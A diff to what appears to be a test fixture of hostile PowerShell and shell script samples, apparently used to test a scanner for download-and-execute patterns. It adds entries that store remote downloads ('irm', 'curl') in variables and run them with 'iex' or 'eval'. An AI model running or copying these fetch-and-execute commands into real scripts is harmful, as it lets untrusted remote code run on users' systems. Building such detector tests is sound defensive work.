@@ -182,6 +182,17 @@ export const HOSTILE_TEXTS: readonly HostileText[] = [
     path: "p/s/run.ps1",
     make: (size) => `${repeated("$b=[scriptblock]::Create((irm x))\n", size)}& $b\n`,
   },
+  // Downloads kept in variables as strings, on every line, run at the end or never.
+  {
+    name: "downloads kept on every line, run at the end",
+    path: "p/s/run.ps1",
+    make: (size) => `${repeated("$s=irm x; x=$(curl y)\n", size)}iex $s; eval "$x"\n`,
+  },
+  {
+    name: "downloads kept and never run",
+    path: "p/s/run.sh",
+    make: (size) => `${repeated('x=$(curl y); eval "$z"; iex $t; ', size)}\n`,
+  },
   {
     name: "iex -Command and spaces",
     path: "p/s/run.ps1",
